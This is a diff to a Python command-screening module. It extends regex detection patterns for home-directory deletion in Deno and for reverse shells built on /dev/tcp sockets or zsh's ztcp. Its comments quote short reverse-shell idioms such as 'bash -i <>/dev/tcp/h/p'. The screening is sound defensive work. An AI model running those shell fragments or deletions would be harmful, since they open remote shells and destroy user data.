@@ -50,17 +50,19 @@ _Q = r"\\?[\"']"   # a quote, JSON-escaped or not
 # the home directory as programs spell it
 _HOME_IN_CODE = (r"(?:pathlib\.)?Path\.home\(\)|(?:os\.path\.)?expanduser\([ \t]*\\?[\"']~/?\\?[\"'][ \t]*\)|"
                  r"os\.environ(?:\.get\(|\[)[ \t]*\\?[\"']HOME|(?:os\.)?getenv\([ \t]*\\?[\"']HOME|"
-                 r"process\.env\.HOME|(?:require\([ \t]*\\?[\"'](?:node:)?os\\?[\"'][ \t]*\)|os)\.homedir\(\)|"
+                 r"process\.env\.HOME|Deno\.env\.get\([ \t]*\\?[\"']HOME|(?:require\([ \t]*\\?[\"'](?:node:)?os\\?[\"'][ \t]*\)|os)\.homedir\(\)|"
                  r"Dir\.home|ENV\[[ \t]*\\?[\"']HOME|\$ENV\{[ \t]*\\?[\"']?HOME|File\.expand_path\([ \t]*\\?[\"']~")
 # calls that delete a tree, in the languages a runner tool runs
 _TREE_DELETE_CALL = (r"(?:\brmtree|\bremove_tree|\brm(?:Sync)?|\brmdir(?:Sync)?|\bRemoveAll|\bremove_dir_all|"
-                     r"\bremoveSync|\brimraf(?:\.sync)?|\bemptyDir(?:Sync)?|\bdeleteDirectory|\bdeleteRecursively|"
+                     r"\bremoveSync|\bDeno\.remove|\brimraf(?:\.sync)?|\bemptyDir(?:Sync)?|\bdeleteDirectory|\bdeleteRecursively|"
                      r"\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?|rm))")
 # the home directory (or /) as a whole expression, in those languages
 _HOME_EXPR = (rf"(?:pathlib\.)?Path\.home\(\)|(?:os\.path\.)?expanduser\([ \t]*{_Q}~/?{_Q}[ \t]*\)|"
               rf"os\.environ(?:\.get\([ \t]*{_Q}HOME{_Q}[^)\n]*\)|\[[ \t]*{_Q}HOME{_Q}[ \t]*\])|"
               rf"(?:os\.|System\.)?getenv\([ \t]*{_Q}(?:HOME|USERPROFILE){_Q}[ \t]*\)|"
               rf"process\.env(?:\.(?:HOME|USERPROFILE)\b|\[[ \t]*{_Q}HOME{_Q}[ \t]*\])|"
+              # (probe round 34, residuals35) Deno's: Deno.env.get("HOME")!
+              rf"Deno\.env\.get\([ \t]*{_Q}(?:HOME|USERPROFILE){_Q}[ \t]*\)!?|"
               rf"(?:(?:require\([ \t]*{_Q}(?:node:)?os{_Q}[ \t]*\)|os)\.)?homedir\(\)|Dir\.home\b(?:\(\))?|"
               rf"ENV(?:\[[ \t]*{_Q}HOME{_Q}[ \t]*\]|\.fetch\([ \t]*{_Q}HOME{_Q}[^)\n]*\))|"
               rf"\$ENV\{{[ \t]*{_Q}?HOME{_Q}?[ \t]*\}}|File\.expand_path\([ \t]*{_Q}~/?{_Q}[ \t]*\)|"
@@ -168,7 +170,18 @@ TEXT_PATTERNS: tuple[tuple[str, str, str, str], ...] = (
      # what the grammar cannot read (exec 3<>/dev/tcp/h/p; sh <&3 >&3 2>&3), as text: a
      # socket opened on a descriptor that a shell then reads, or whose lines are run
      r"(?s)/dev/+(?:tcp|udp)/.*?(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b[^|;&\n]*<&\s*\d"
-     r"|(?s)/dev/+(?:tcp|udp)/.*?\bread\b.*?\bdo\s+\$\{?\w"
+     r"|(?s)/dev/+(?:tcp|udp)/.*?\bread\b.*?\bdo\s+(?:eval\s+|(?:ba|z|da|k)?sh\s+-c\s+)?[\"']?\$\{?\w"
+     # (probe round 34, residuals35) the socket's descriptor read by a command piped into a
+     # shell or an interpreter (exec 5<>/dev/tcp/h/p; cat <&5 | sh), given to eval, or read
+     # as a script's file (bash /dev/fd/5, source /dev/fd/5); zsh's ztcp socket ($REPLY) so
+     r"|(?s)/dev/+(?:tcp|udp)/.*?<&\s*\d+[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:\S*/)?"
+     r"(?:(?:ba|z|da|k|c|tc|fi|a)?sh|python[0-9.]*|perl|ruby|node|php|lua|tclsh|xargs)\b"
+     r"|(?s)/dev/+(?:tcp|udp)/.*?\beval\b[^;&|\n]*<&\s*\d"
+     r"|(?s)/dev/+(?:tcp|udp)/.*?(?:\bsource|(?:^|[\s;&|({])\.|\b(?:ba|z|da|k|a)?sh|\bpython[0-9.]*|\bperl|\bruby)"
+     r"\s+(?:-\S+\s+)*/dev/+fd/+\d"
+     r"|(?s)\bztcp\b.*?(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b[^|;&\n]*[<>]&\s*\$"
+     r"|(?s)\bztcp\b.*?<&\s*\$\{?\w+\}?[^|;&\n]*\|\s*(?:\S*/)?(?:(?:ba|z|da|k|a)?sh|python[0-9.]*|perl|ruby)\b"
+     r"|(?s)\bztcp\b.*?\beval\b[^;&|\n]*<&\s*\$"
      # (probe round 32, redteam32c) a shell whose input is a socket opened read-write
      # (bash -i <>/dev/tcp/h/p >&0 2>&1, sh 0<>/dev/tcp/h/p: <> the grammar cannot read)
      r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>?\s*/+dev/+(?:tcp|udp)/"),
@@ -1535,6 +1548,11 @@ def _own_code(cmd: SimpleCommand) -> bool:
         return True
     if len(args) >= 2 and args[0] in ("-c", "-e", "--eval") and not any(a.startswith("-") for a in args[2:]):
         return _EVALS.search(args[1]) is None
+    if cmd.name == "deno" and args and args[0] == "eval":
+        # (probe round 34, residuals35) deno eval [-p] CODE, as node -e CODE
+        rest = [a for a in args[1:] if not a.startswith("-")]
+        return len(rest) == 1 and all(a in ("-p", "--print", "-q", "--quiet") for a in args[1:] if a.startswith("-")) \
+            and _EVALS.search(rest[0]) is None
     return False
 
 
